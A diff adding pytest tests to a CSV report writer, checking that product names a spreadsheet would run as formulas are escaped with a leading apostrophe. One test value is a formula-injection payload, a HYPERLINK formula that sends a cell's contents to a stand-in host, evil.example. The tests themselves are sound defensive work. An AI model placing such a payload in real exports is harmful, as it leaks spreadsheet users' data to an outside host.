@@ -96,3 +96,18 @@ def test_a_day_is_written_as_soon_as_the_next_one_starts():
     totals = report_csv_write(out=out, orders=orders())
     assert totals.orders == 3
     assert "2025-03-05" in out.getvalue()
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"],
+)
+def test_a_product_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text(name):
+    rows, _ = written([order(at(3), [Line(TEAPOT, name, 1, Decimal("2.00"))])])
+    assert rows[1][2] == "'" + name
+
+
+@pytest.mark.parametrize("name", ["Teapot", "Cup = mug", "100% tea", "'quoted"])
+def test_any_other_product_name_is_written_as_it_is(name):
+    rows, _ = written([order(at(3), [Line(TEAPOT, name, 1, Decimal("2.00"))])])
+    assert rows[1][2] == name
